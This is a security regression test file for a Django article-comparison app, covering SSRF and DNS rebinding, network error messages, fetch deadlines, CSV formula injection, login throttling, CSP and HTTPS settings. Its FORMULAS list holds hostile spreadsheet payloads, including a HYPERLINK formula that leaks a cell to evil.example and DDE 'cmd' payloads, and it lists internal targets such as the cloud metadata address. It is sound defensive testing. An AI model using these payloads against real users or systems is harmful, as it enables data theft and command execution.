"""The attacks of issue 11, each run against the app and answered safely.

URL import (SSRF, DNS rebinding, error messages, deadline, page size), CSV formula
injection, login throttling, Content-Security-Policy, the HTTPS settings, the secret
key and a template comment shown as text. Concurrent writes are in test_concurrency.py.

No test reaches beyond this machine: a fake resolver answers every host name, and
every `connect` goes through a guard that refuses any address but loopback (or sends
a made-up public address to a local server standing in for it).
"""

from __future__ import annotations

import contextlib
import csv
import errno
import hashlib
import http.server
import io
import ipaddress
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.urls import reverse

from compare import embeddings, fetch, selectors, services
from compare.models import Article, Comparison, Outlet
from compare.results import csv_text
from config.secret_key import PUBLIC_SECRET_KEYS
from tests.factories import make_article, make_comparison

pytestmark = pytest.mark.django_db

BASE_DIR = Path(__file__).resolve().parents[1]
PAGES = Path(__file__).resolve().parent / "pages"
SEEDS_DIR = BASE_DIR / "fixtures" / "seeds"
PUBLIC = "93.184.215.14"  # a public address; never reached, see `Network`
TRICKLE_SECONDS = 0.25  # between two bytes: far below the 1 s deadline of those tests
STRONG_KEY = "k" + hashlib.sha256(b"a key for tests only").hexdigest()  # 65 characters


# --- A network that never leaves this machine --------------------------------------------

_real_getaddrinfo = socket.getaddrinfo
_real_connect = socket.socket.connect


class Network:
    """A fake resolver and a guard on `socket.connect`, for one test.

    `names` maps a host name to its successive answers (the last one repeats);
    `routes` sends a made-up public address to a local port; `unreachable` lists
    public addresses that fail as an unreachable network would. Any other address
    that is not loopback is refused before a packet leaves.
    """

    def __init__(self) -> None:
        self.names: dict[str, list[list[str]]] = {}
        self.routes: dict[str, int] = {}
        self.unreachable: set[str] = set()
        self.lookups: list[str] = []
        self.connects: list[str] = []

    def getaddrinfo(self, host, port, family=0, type=0, proto=0, flags=0):
        self.lookups.append(host)
        if host in self.names:
            answers = self.names[host]
            addresses = answers.pop(0) if len(answers) > 1 else answers[0]
            return [
                (
                    socket.AF_INET6 if ":" in address else socket.AF_INET,
                    socket.SOCK_STREAM,
                    socket.IPPROTO_TCP,
                    "",
                    (address, port, 0, 0) if ":" in address else (address, port),
                )
                for address in addresses
            ]
        try:
            ipaddress.ip_address(host.split("%")[0])
        except ValueError:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known") from None
        return _real_getaddrinfo(host, port, family, type, proto, flags | socket.AI_NUMERICHOST)

    def connect(self, sock, address):
        self.connects.append(address[0])
        if address[0] in self.routes:
            return _real_connect(sock, ("127.0.0.1", self.routes[address[0]]))
        if address[0] in self.unreachable:
            raise OSError(errno.ENETUNREACH, os.strerror(errno.ENETUNREACH))
        ip = ipaddress.ip_address(address[0].split("%")[0])
        mapped = getattr(ip, "ipv4_mapped", None)
        if not (ip.is_loopback or ip.is_unspecified or (mapped and mapped.is_loopback)):
            raise ConnectionRefusedError(errno.ECONNREFUSED, "tests reach no other machine")
        return _real_connect(sock, address)


@pytest.fixture(autouse=True)
def refuse_internal_addresses(settings):
    """The production default, whatever the environment says; tests that need the local
    servers turn it back on."""
    settings.COMPARE_FETCH_ALLOW_PRIVATE = False


@pytest.fixture(autouse=True)
def network(monkeypatch) -> Network:
    fake = Network()
    monkeypatch.setattr(socket, "getaddrinfo", fake.getaddrinfo)
    # A plain function, so that it binds to each socket as a method does.
    monkeypatch.setattr(socket.socket, "connect", lambda sock, address: fake.connect(sock, address))
    return fake


# --- Local servers -----------------------------------------------------------------------


class Handler(http.server.BaseHTTPRequestHandler):
    """An article, a redirect, a page with too much text, and servers that trickle."""

    def do_GET(self) -> None:
        self.server.requests.append(self.path)
        path, _, query = self.path.partition("?")
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            if path == "/article.html":
                self.send_page((PAGES / "article_with_figure.html").read_bytes())
            elif path == "/redirect":
                self.send_response(302)
                self.send_header("Location", urllib.parse.unquote(query))
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif path == "/long.html":
                paragraph = "<p>" + "Lorem ipsum dolor sit amet, consectetur. " * 25 + "</p>\n"
                count = int(query or "1")
                self.send_page(f"<html><body>{paragraph * count}</body></html>".encode())
            elif path == "/trickle-body":
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", "40")
                self.end_headers()
                self.trickle(b"<p>" + b"x" * 33 + b"</p>")
            elif path == "/trickle-headers":
                self.trickle(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Padding: xxxxxxxx\r\n"
                )
            else:
                self.send_error(404)

    def send_page(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def trickle(self, data: bytes) -> None:
        for index in range(len(data)):
            self.wfile.write(data[index : index + 1])
            time.sleep(TRICKLE_SECONDS)

    def log_message(self, *args) -> None:
        pass


class IPv6Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6


@contextlib.contextmanager
def http_server(
    server_class, host: str, tls: ssl.SSLContext | None = None
) -> Iterator[http.server.ThreadingHTTPServer]:
    httpd = server_class((host, 0), Handler)
    if tls:
        httpd.socket = tls.wrap_socket(httpd.socket, server_side=True)
    httpd.daemon_threads = True
    httpd.block_on_close = False
    httpd.requests = []
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield httpd
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture(scope="module")
def module_server() -> Iterator[http.server.ThreadingHTTPServer]:
    with http_server(http.server.ThreadingHTTPServer, "127.0.0.1") as httpd:
        yield httpd


@pytest.fixture
def server(module_server) -> http.server.ThreadingHTTPServer:
    """The local server on 127.0.0.1, with the requests of this test only."""
    module_server.requests.clear()
    return module_server


@pytest.fixture(scope="module")
def server_v6() -> Iterator[http.server.ThreadingHTTPServer]:
    with http_server(IPv6Server, "::1") as httpd:
        yield httpd


@contextlib.contextmanager
def tcp_server(handle: Callable[[socket.socket], None]) -> Iterator[int]:
    """A port on 127.0.0.1 whose connections `handle` answers (not HTTP)."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection, contextlib.suppress(OSError):
                handle(connection)

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield listener.getsockname()[1]
    finally:
        with contextlib.suppress(OSError):
            listener.shutdown(socket.SHUT_RDWR)
        listener.close()


def reset(connection: socket.socket) -> None:
    # Linger 0: close() sends a TCP reset instead of an orderly end.
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def speak_ssh(connection: socket.socket) -> None:
    connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    connection.recv(1024)


@pytest.fixture
def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def nothing_stored() -> bool:
    return not Article.objects.exists() and not Outlet.objects.exists()


def port_of(server) -> int:
    return server.server_address[1]


# --- SSRF ----------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]", "localhost"])
def test_url_import_refuses_this_machine(server, network, host):
    network.names["localhost"] = [["127.0.0.1"]]
    url = f"http://{host}:{port_of(server)}/article.html"
    with pytest.raises(fetch.ForbiddenAddressError, match="Could not reach"):
        services.import_article_from_url(url=url)
    assert server.requests == []
    assert nothing_stored()


def test_url_import_refuses_ipv6_loopback(server_v6):
    server_v6.requests.clear()
    with pytest.raises(fetch.ForbiddenAddressError):
        services.import_article_from_url(url=f"http://[::1]:{port_of(server_v6)}/article.html")
    assert server_v6.requests == []
    assert nothing_stored()


@pytest.mark.parametrize(
    "address",
    [
        "10.0.0.7",
        "172.16.4.2",
        "192.168.1.1",
        "169.254.169.254",  # a cloud's metadata service
        "100.64.0.1",  # carrier-grade NAT
        "224.0.0.1",  # multicast
        "240.0.0.1",  # reserved
        "fd12:3456::1",  # IPv6 unique local
        "fe80::1",  # IPv6 link-local
        "::ffff:10.0.0.7",  # IPv4-mapped
    ],
)
def test_url_import_refuses_internal_networks(network, address):
    network.names["intranet.example"] = [[address]]
    with pytest.raises(fetch.ForbiddenAddressError):
        services.import_article_from_url(url="http://intranet.example/admin/")
    assert network.connects == []
    assert nothing_stored()


def test_a_redirect_to_this_machine_is_refused(server, network):
    """news.example is public; its page redirects to the site's own loopback address."""
    port = port_of(server)
    network.names["news.example"] = [[PUBLIC]]
    network.routes[PUBLIC] = port
    target = urllib.parse.quote(f"http://127.0.0.1:{port}/article.html", safe="")
    with pytest.raises(fetch.ForbiddenAddressError):
        services.import_article_from_url(url=f"http://news.example:{port}/redirect?{target}")
    assert server.requests == [f"/redirect?{target}"]
    assert nothing_stored()


def test_a_name_that_also_resolves_to_this_machine_is_refused(server, network):
    """DNS rebinding with two answers at once: a client that tries the next address when
    the first fails would end on 127.0.0.1."""
    network.names["rebind.example"] = [[PUBLIC, "127.0.0.1"]]
    with pytest.raises(fetch.ForbiddenAddressError):
        services.import_article_from_url(
            url=f"http://rebind.example:{port_of(server)}/article.html"
        )
    assert network.connects == []
    assert server.requests == []
    assert nothing_stored()


def test_the_connection_goes_to_the_address_that_was_checked(server, network):
    """DNS rebinding in time: public when checked, loopback for any later lookup.

    The original code resolved once, with no check to race, so this passes on it; it
    fails on a fix that checks the name and then lets the connection resolve it again.
    """
    port = port_of(server)
    network.names["rebind.example"] = [[PUBLIC], ["127.0.0.1"]]
    with pytest.raises(fetch.FetchFailedError):
        services.import_article_from_url(url=f"http://rebind.example:{port}/article.html")
    assert network.lookups == ["rebind.example"]
    assert network.connects == [PUBLIC]
    assert server.requests == []
    assert nothing_stored()


def test_a_public_page_is_still_imported(server, network):
    network.names["news.example"] = [[PUBLIC]]
    network.routes[PUBLIC] = port_of(server)
    article = services.import_article_from_url(
        url=f"http://news.example:{port_of(server)}/article.html"
    )
    assert article.title == "Russia and China sign a lunar station memorandum"
    assert server.requests == ["/article.html"]


@pytest.fixture
def tls_server(monkeypatch) -> Iterator[tuple[int, list[str]]]:
    """An HTTPS server on 127.0.0.1 with a certificate for news.example only, which the fetch
    trusts; yields its port and the server names clients asked for (SNI)."""
    certificate = str(Path(__file__).resolve().parent / "tls" / "news.example.pem")
    create_default_context = ssl.create_default_context
    monkeypatch.setattr(
        ssl, "create_default_context", lambda *a, **k: create_default_context(cafile=certificate)
    )
    fetch._tls_context.cache_clear()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    names: list[str] = []
    context.sni_callback = lambda sock, name, ctx: names.append(name)
    with http_server(http.server.ThreadingHTTPServer, "127.0.0.1", tls=context) as httpd:
        yield port_of(httpd), names
    fetch._tls_context.cache_clear()


def test_https_goes_to_the_checked_address_and_checks_the_certificate_of_the_name(
    tls_server, network, settings
):
    settings.COMPARE_FETCH_ALLOW_PRIVATE = True
    port, names = tls_server
    network.names["news.example"] = [["127.0.0.1"]]
    network.names["other.example"] = [["127.0.0.1"]]
    page = fetch.fetch_page(f"https://news.example:{port}/article.html")
    assert "lunar station memorandum" in page.html
    assert names == ["news.example"]
    assert network.connects == ["127.0.0.1"]
    # The same server under another name, or its address, has no valid certificate.
    unknown = failure_message("https://nowhere.example/")
    assert failure_message(f"https://other.example:{port}/article.html") == unknown
    assert failure_message(f"https://127.0.0.1:{port}/article.html") == unknown


# --- One message for every network failure --------------------------------------------------


def failure_message(url: str) -> str:
    """The message of a failed import, with the host replaced by HOST."""
    with pytest.raises(fetch.FetchFailedError) as caught:
        services.import_article_from_url(url=url)
    return str(caught.value).replace(urllib.parse.urlsplit(url).hostname, "HOST")


def test_internal_ports_open_or_closed_give_the_same_answer(server, closed_port):
    open_port = port_of(server)
    unknown = failure_message("http://nowhere.example/")
    assert failure_message(f"http://127.0.0.1:{open_port}/article.html") == unknown
    assert failure_message(f"http://127.0.0.1:{closed_port}/article.html") == unknown
    assert "Could not reach HOST" in unknown


def test_every_network_failure_gives_the_same_message(server, network, settings, closed_port):
    settings.COMPARE_FETCH_ALLOW_PRIVATE = True
    network.names["far.example"] = [[PUBLIC]]
    network.unreachable.add(PUBLIC)
    with tcp_server(reset) as reset_port, tcp_server(speak_ssh) as ssh_port:
        messages = {
            "unknown host": failure_message("http://nowhere.example/a.html"),
            "refused": failure_message(f"http://127.0.0.1:{closed_port}/a.html"),
            "reset": failure_message(f"http://127.0.0.1:{reset_port}/a.html"),
            "not HTTP": failure_message(f"http://127.0.0.1:{ssh_port}/a.html"),
            "TLS": failure_message(f"https://127.0.0.1:{port_of(server)}/article.html"),
            "unreachable": failure_message("http://far.example/a.html"),
        }
    assert len(set(messages.values())) == 1, messages
    assert not re.search(r"errno|refus|reset|ssl|reachable|known", messages["refused"], re.I)
    assert nothing_stored()


# --- The deadline and the page size ------------------------------------------------------------


@pytest.mark.parametrize("path", ["/trickle-body", "/trickle-headers"])
def test_a_trickling_server_is_cut_at_the_deadline(server, settings, path):
    settings.COMPARE_FETCH_ALLOW_PRIVATE = True
    settings.COMPARE_FETCH_TIMEOUT = 1
    started = time.monotonic()
    with pytest.raises(fetch.FetchTimeoutError, match="within 1 seconds"):
        services.import_article_from_url(url=f"http://127.0.0.1:{port_of(server)}{path}")
    assert time.monotonic() - started < 1.6
    assert nothing_stored()


def test_a_trickling_server_is_cut_at_the_deadline_over_https(tls_server, network, settings):
    settings.COMPARE_FETCH_ALLOW_PRIVATE = True
    settings.COMPARE_FETCH_TIMEOUT = 1
    port, _ = tls_server
    network.names["news.example"] = [["127.0.0.1"]]
    started = time.monotonic()
    with pytest.raises(fetch.FetchTimeoutError):
        fetch.fetch_page(f"https://news.example:{port}/trickle-body")
    assert time.monotonic() - started < 1.6


def test_a_page_with_far_more_text_than_an_article_is_refused_before_extraction(
    server, settings, monkeypatch
):
    """About 4 MB of paragraphs: extracting them took 14 s, then the text was refused."""
    settings.COMPARE_FETCH_ALLOW_PRIVATE = True
    settings.COMPARE_MAX_TEXT_CHARS = 200_000
    import trafilatura

    extracted = []
    extract = trafilatura.extract

    def spy(*args, **kwargs):
        extracted.append(args)
        return extract(*args, **kwargs)

    monkeypatch.setattr(trafilatura, "extract", spy)  # the slow part never runs
    started = time.monotonic()
    with pytest.raises(fetch.PageTooLargeError, match="far more than the 200,000"):
        services.import_article_from_url(url=f"http://127.0.0.1:{port_of(server)}/long.html?4000")
    assert extracted == []
    assert time.monotonic() - started < 5
    assert nothing_stored()


# --- CSV formula injection ---------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def fake_encode(texts, *, name=None) -> np.ndarray:
    """Deterministic unit vectors from the text's hash: no model, no meaning."""
    rows = []
    for text in texts:
        seed = int(hashlib.sha256(text.encode()).hexdigest()[:8], 16)
        vector = np.random.default_rng(seed).standard_normal(16).astype(np.float32)
        rows.append(vector / np.linalg.norm(vector))
    return np.stack(rows) if rows else np.zeros((0, 16), dtype=np.float32)


def test_the_csv_export_neutralises_formulas(client, monkeypatch):
    monkeypatch.setattr(embeddings, "encode", fake_encode)
    article_a = make_article(raw="\n\n".join(FORMULAS), language="en")
    article_b = make_article(raw="A plain sentence.\n\n=1+1", language="en")
    comparison = make_comparison(articles=[article_a, article_b])
    services.align_comparison(comparison=selectors.get_comparison(comparison.pk))
    response = client.get(reverse("compare:comparison-export", args=[comparison.pk, "csv"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    columns = ("a_text", "b_text", "facts_a", "facts_b")
    cells = [row[column] for row in rows for column in columns if row[column]]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    formulas = [s.text for s in article_a.sentences.all() if s.text[0] in "=+-@"]
    assert len(formulas) >= len(FORMULAS)
    for formula in formulas:
        # Quoted where it starts a cell; harmless after another sentence in a link's cell.
        assert any(
            cell == f"'{formula}" or cell.startswith(f"'{formula} ") or f" {formula}" in cell
            for cell in cells
        ), formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_quotes_every_formula_start(start):
    assert csv_text(f"{start}1") == f"'{start}1"
    assert csv_text(f"a{start}1") == f"a{start}1"


# --- Login throttling --------------------------------------------------------------------------


def test_logins_are_refused_after_five_wrong_passwords_even_the_right_one(client):
    get_user_model().objects.create_user("editor", password="the right one", is_staff=True)
    login = reverse("login")
    for _ in range(django_settings.AXES_FAILURE_LIMIT):
        response = client.post(login, {"username": "editor", "password": "a wrong one"})
        assert response.status_code in (200, 429)
    response = client.post(login, {"username": "editor", "password": "the right one"})
    assert response.status_code == 429
    assert "Too many failed logins" in response.content.decode()
    assert "_auth_user_id" not in client.session


def test_the_right_password_logs_in_before_the_limit(client):
    get_user_model().objects.create_user("editor", password="the right one", is_staff=True)
    login = reverse("login")
    for _ in range(django_settings.AXES_FAILURE_LIMIT - 1):
        client.post(login, {"username": "editor", "password": "a wrong one"})
    response = client.post(login, {"username": "editor", "password": "the right one"})
    assert response.status_code == 302
    assert "_auth_user_id" in client.session


# --- Content-Security-Policy and the pages -----------------------------------------------------


class InlineCode(HTMLParser):
    """Collects what a CSP without 'unsafe-inline' for scripts would block or should not need."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attributes = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not attributes.get("src"):
                self.found.append("<script> without src")
        if tag == "style":
            self.found.append("<style>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{name}= on <{tag}>")
            if value and value.strip().lower().startswith("javascript:"):
                self.found.append(f"javascript: URL on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:40]!r}")


def test_every_page_has_a_csp_and_no_inline_script(client, monkeypatch):
    monkeypatch.setattr(embeddings, "encode", fake_encode)
    article = make_article()
    comparison = make_comparison(articles=[article, make_article()])
    services.align_comparison(comparison=selectors.get_comparison(comparison.pk))
    user = get_user_model().objects.create_superuser("editor", password="pw")
    urls = [
        reverse("compare:home"),
        article.get_absolute_url(),
        comparison.get_absolute_url(),
        reverse("login"),
    ]
    staff_urls = [
        *urls,
        reverse("compare:article-import"),
        reverse("admin:index"),
        reverse("admin:compare_article_changelist"),
        reverse("admin:compare_article_change", args=[article.pk]),
    ]
    pages = [(url, client.get(url)) for url in urls]
    client.force_login(user)
    pages += [(url, client.get(url)) for url in staff_urls]
    pages.append(("htmx fragment", client.get(urls[2], headers={"HX-Request": "true"})))
    for url, response in pages:
        assert response.status_code == 200, url
        policy = dict(
            directive.strip().split(" ", 1)
            for directive in response["Content-Security-Policy"].split(";")
        )
        assert policy["script-src"] == "'self'", url
        assert policy["style-src"] == "'self'", url
        assert policy["object-src"] == "'none'" and policy["frame-ancestors"] == "'none'", url
        parser = InlineCode()
        parser.feed(response.content.decode())
        assert parser.found == [], url


def test_no_template_comment_shows_as_text(client):
    client.force_login(get_user_model().objects.create_user("editor", is_staff=True))
    content = client.get(reverse("compare:home")).content.decode()
    assert 'id="create-forms"' in content
    assert "{#" not in content and "#}" not in content
    assert "Each form posts for real" not in content


def test_no_template_opens_a_comment_it_does_not_close_on_the_same_line():
    """Django's {# #} is one line only; over two lines it is printed as text."""
    unclosed = [
        f"{path.relative_to(BASE_DIR)}:{number}"
        for path in sorted((BASE_DIR / "templates").rglob("*.html"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if line.count("{#") > line.count("#}")
    ]
    assert unclosed == []


# --- Deployment settings (each in a process of its own: settings are read at start) ---------


def run_django(arguments: list[str], tmp_path: Path, **environment: str):
    """`python ARGUMENTS` in the project, no DJANGO_* variable but `environment`, a scratch DB."""
    env = {
        name: value
        for name, value in os.environ.items()
        if not name.startswith(("DJANGO_", "COMPARE_", "DATABASE_URL"))
    }
    env |= {"DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}", **environment}
    return subprocess.run(
        [sys.executable, *arguments],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )


PRODUCTION = {
    "DJANGO_DEBUG": "0",
    "DJANGO_SECRET_KEY": STRONG_KEY,
    "DJANGO_SECURE": "1",
    "DJANGO_ALLOWED_HOSTS": "compare.example.org",
}


def test_check_deploy_is_clean_with_the_documented_production_settings(tmp_path):
    result = run_django(["manage.py", "check", "--deploy"], tmp_path, **PRODUCTION)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "System check identified no issues (0 silenced).", (
        result.stdout + result.stderr
    )


@pytest.mark.parametrize("key", sorted(PUBLIC_SECRET_KEYS) + ["short", "x" * 60])
def test_a_public_or_weak_secret_key_is_refused_with_debug_off(tmp_path, key):
    result = run_django(["manage.py", "check"], tmp_path, DJANGO_DEBUG="0", DJANGO_SECRET_KEY=key)
    assert result.returncode != 0
    assert "ImproperlyConfigured: DJANGO_SECRET_KEY is publicly known or too weak" in result.stderr


def test_production_without_a_secret_key_refuses_to_start(tmp_path):
    environment = {name: value for name, value in PRODUCTION.items() if name != "DJANGO_SECRET_KEY"}
    result = run_django(["manage.py", "check"], tmp_path, **environment)
    assert result.returncode != 0
    assert "DJANGO_SECURE is on but DJANGO_SECRET_KEY is not set" in result.stderr


HTTPS_PROBE = """
import json, django
django.setup()
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
call_command("migrate", verbosity=0)
get_user_model().objects.create_user("editor", password="pw")
client = Client()
plain = client.get("/login/")
page = client.get("/login/", secure=True)
login = client.post("/login/", {"username": "editor", "password": "pw"}, secure=True)
print(json.dumps({
    "redirect": [plain.status_code, plain.get("Location")],
    "hsts": page.get("Strict-Transport-Security"),
    "csrf_cookie_secure": bool(page.cookies["csrftoken"]["secure"]),
    "session_cookie_secure": bool(login.cookies["sessionid"]["secure"]),
}))
"""


def test_django_secure_turns_on_https_redirect_hsts_and_secure_cookies(tmp_path):
    result = run_django(
        ["-c", HTTPS_PROBE],
        tmp_path,
        **(PRODUCTION | {"DJANGO_ALLOWED_HOSTS": "testserver"}),
        DJANGO_SETTINGS_MODULE="config.settings",
    )
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout.strip().splitlines()[-1])
    assert found == {
        "redirect": [301, "https://testserver/login/"],
        "hsts": "max-age=31536000; includeSubDomains; preload",
        "csrf_cookie_secure": True,
        "session_cookie_secure": True,
    }


def test_without_configuration_the_key_is_made_once_and_kept_private(tmp_path):
    from config.secret_key import installation_secret_key, is_weak_secret_key

    path = tmp_path / "var" / "secret_key"
    key = installation_secret_key(path)
    assert installation_secret_key(path) == key
    assert not is_weak_secret_key(key)
    assert path.stat().st_mode & 0o777 == 0o600
    assert installation_secret_key(tmp_path / "elsewhere" / "secret_key") != key
    assert list(path.parent.iterdir()) == [path]  # no draft left behind


# --- Bad input gets a clear message and stores nothing -----------------------------------------


@pytest.fixture
def staff_client(client):
    staff = get_user_model().objects.create_user("desk", password="pw", is_staff=True)
    client.force_login(staff)
    return client


def pasted(text_a: str, text_b: str, **fields) -> dict:
    return {"mode": "pasted", "text_a": text_a, "text_b": text_b, **fields}


def test_a_form_over_the_request_size_limit_says_why(staff_client, settings):
    """Two multibyte texts under the character limit used to get a bare "Bad Request (400)"."""
    settings.COMPARE_MAX_TEXT_CHARS = 1000
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2 * 4 * 3 * 1000 + 1024 * 1024
    # Two texts just over the limit in characters, each character 12 bytes once URL-encoded:
    # the limits agree, so the form sees them and names the character limit.
    moons = "🌕" * 1001
    response = staff_client.post(reverse("compare:comparison-create"), pasted(moons, moons + "x"))
    assert response.status_code == 200
    assert "the limit is 1,000" in response.content.decode()
    # A body over the request limit itself: a page that says why, for htmx a message.
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    huge = pasted("Mond " * 5000, "Lune " * 5000)
    response = staff_client.post(reverse("compare:comparison-create"), huge)
    assert response.status_code == 400
    assert "larger than this site reads" in response.content.decode()
    response = staff_client.post(
        reverse("compare:comparison-create"), huge, headers={"HX-Request": "true"}
    )
    assert response.status_code == 400
    assert response["HX-Retarget"] == "#messages"
    assert "at most 1,000 characters" in response.content.decode()
    assert not Article.objects.exists()


def test_non_utf8_bytes_in_a_pasted_text_are_refused(staff_client):
    body = (
        "mode=pasted&text_a=Caf%E9+cr%E8me+%28Latin-1%29+sur+la+Lune.&"
        "text_b=La+Russie+et+la+Chine+ont+sign%C3%A9+un+m%C3%A9morandum."
    )
    response = staff_client.post(
        reverse("compare:comparison-create"),
        body,
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 200
    assert "not valid UTF-8" in response.content.decode()
    assert not Article.objects.exists()


@pytest.mark.parametrize(
    ("sample", "language"),
    [
        ("Η Ρωσία και η Κίνα υπέγραψαν μνημόνιο για έναν σεληνιακό σταθμό έρευνας.", "Greek"),
        ("रूस और चीन ने चंद्र अनुसंधान स्टेशन बनाने के लिए एक समझौते पर हस्ताक्षर किए।", "Hindi"),
    ],
)
def test_an_unsupported_language_is_named_with_the_supported_ones(staff_client, sample, language):
    response = staff_client.post(
        reverse("compare:comparison-create"),
        pasted(sample, "Russia and China signed a memorandum on a lunar research station."),
    )
    content = response.content.decode()
    assert f"The text is in {language}, which this site cannot compare" in content
    assert "Supported languages: Arabic (ar)" in content and "Turkish (tr)" in content
    assert not Article.objects.exists()


def test_a_wrong_declared_language_is_refused_until_the_editor_keeps_it(staff_client):
    italian = (SEEDS_DIR / "it-roscosmos-cnsa-ilrs.txt").read_text(encoding="utf-8")
    french = (SEEDS_DIR / "fr-roscosmos-cnsa-ilrs.txt").read_text(encoding="utf-8")
    form = pasted(italian, french, language_a="fr", language_b="fr")
    response = staff_client.post(reverse("compare:comparison-create"), form)
    content = response.content.decode()
    assert "The text reads as Italian, not French" in content
    assert 'type="checkbox" name="keep_language_a"' in content  # the way to insist
    assert "keep_language_b" in content and 'type="checkbox" name="keep_language_b"' not in content
    assert not Article.objects.exists()
    form["keep_language_a"] = "on"
    response = staff_client.post(reverse("compare:comparison-create"), form)
    assert response.status_code == 302
    assert Article.objects.get(title__startswith="Ecco").language == "fr"  # as the editor said


def test_a_sentence_index_too_large_for_the_database_is_refused_not_a_500(staff_client):
    comparison = make_comparison()
    for url, data in (
        ("compare:curation-addition", {"sentence": "a-" + "9" * 25, "addition_type": "other"}),
        ("compare:curation-link", {"sentences": ["a-0", "b-" + "9" * 25]}),
        ("compare:curation-reject", {"link": "a" + "9" * 25 + "-b0"}),
    ):
        response = staff_client.post(reverse(url, args=[comparison.pk]), data, follow=True)
        assert response.status_code == 200
        assert "does not name" in response.content.decode()
    response = staff_client.get("/comparisons/" + "9" * 25 + "/")
    assert response.status_code == 404


def test_a_duplicate_of_the_other_pasted_text_names_no_phantom_article(staff_client):
    """The second text repeating the first (up to spacing) named an article rolled back."""
    text = "La Russie et la Chine ont signé un mémorandum sur une station lunaire de recherche."
    response = staff_client.post(
        reverse("compare:comparison-create"), pasted(text, text.replace(" ", "  "))
    )
    content = response.content.decode()
    assert "same text as article A" in content
    assert "already stored as the article" not in content
    assert not Article.objects.exists()


def test_comparing_a_pair_again_opens_the_existing_comparison(staff_client):
    first, second = make_article(), make_article()
    existing = make_comparison(articles=[first, second])
    for a, b in ((first, second), (second, first)):
        response = staff_client.post(
            reverse("compare:comparison-create"),
            {"mode": "stored", "article_a": a.pk, "article_b": b.pk},
        )
        assert response.status_code == 302 and response["Location"] == existing.get_absolute_url()
    assert services.existing_comparison(articles=[second, first]) == existing
    assert Comparison.objects.count() == 1
